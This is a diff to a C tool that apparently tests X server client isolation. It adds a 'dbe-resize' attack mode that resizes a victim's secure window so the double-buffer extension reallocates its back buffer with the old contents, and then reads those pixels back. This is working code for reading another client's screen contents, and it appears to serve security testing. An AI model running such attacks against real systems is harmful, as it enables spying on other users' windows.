@@ -31,7 +31,7 @@ attack(int argc, char **argv)
 
     if (argc < 2)
         die("attack over|over-change|under|reparent S | attack tile|copy|picture PIXMAP | "
-            "attack untag S | attack mixed S N | attack reuse-id S");
+            "attack untag S | attack mixed S N | attack reuse-id S | attack dbe-resize BUF S");
     kind = argv[0];
     s = strtoul(argv[1], NULL, 0);
     conn();
@@ -190,6 +190,17 @@ attack(int argc, char **argv)
         return 0;
     } else if (!strcmp(kind, "dbe-read")) {
         getimage(&st, s, 0, 0, 200, 200);       /* s: the victim's back buffer */
+    } else if (!strcmp(kind, "dbe-resize") && argc > 2) {
+        /* s: the victim's back buffer; argv[2]: its secure window, resized by us (any
+         * client may), so that DBE reallocates the buffer with the old contents */
+        xcb_window_t sw = strtoul(argv[2], NULL, 0);
+        uint32_t wh[2] = { 201, 200 };
+        xcb_configure_window(c, sw, XCB_CONFIG_WINDOW_WIDTH | XCB_CONFIG_WINDOW_HEIGHT, wh);
+        sync_();
+        wh[0] = 200;
+        xcb_configure_window(c, sw, XCB_CONFIG_WINDOW_WIDTH | XCB_CONFIG_WINDOW_HEIGHT, wh);
+        sync_();
+        getimage(&st, s, 0, 0, 200, 200);
     } else if (!strcmp(kind, "dbe-alloc")) {
         xcb_pixmap_t buf = xcb_generate_id(c);
         if (dbe_alloc(s, buf) || dbe_swap(s))
